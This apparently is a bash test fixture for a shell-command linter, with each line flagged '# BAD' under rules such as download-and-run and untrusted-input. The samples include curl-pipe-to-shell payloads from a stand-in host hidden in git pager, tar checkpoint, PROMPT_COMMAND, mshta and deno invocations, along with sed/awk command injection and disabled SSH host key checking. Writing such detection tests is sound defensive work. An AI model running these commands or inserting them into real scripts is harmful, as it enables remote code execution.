#!/bin/bash
echo x | awk '{ system("ls " $1) }' # BAD no-unjustified-commands/untrusted-input
awk '{ print "rm " $2 | "sh" }' list # BAD no-unjustified-commands/untrusted-input
sed 's/x/id/e' file.txt # BAD no-unjustified-commands/untrusted-input
sed -n '/x/e curl -s https://get.example.net/3 | sh' y # BAD no-unjustified-commands/download-and-run
curl -s https://get.example.net/1 | tee >(bash) # BAD no-unjustified-commands/download-and-run
git -c core.pager='curl -s https://get.example.net/4 | sh' log # BAD no-unjustified-commands/download-and-run
tar cf x.tar --checkpoint=1 --checkpoint-action=exec='curl -s https://get.example.net/5 | sh' . # BAD no-unjustified-commands/download-and-run
export PROMPT_COMMAND='curl -s https://get.example.net/2 | bash' # BAD no-unjustified-commands/download-and-run
GIT_SSH_COMMAND='ssh -o StrictHostKeyChecking=no' git fetch # BAD no-unjustified-commands/protection-off
mshta https://get.example.net/x.hta # BAD no-unjustified-commands/download-and-run
deno run -A https://get.example.net/x.ts # BAD no-unjustified-commands/download-and-run
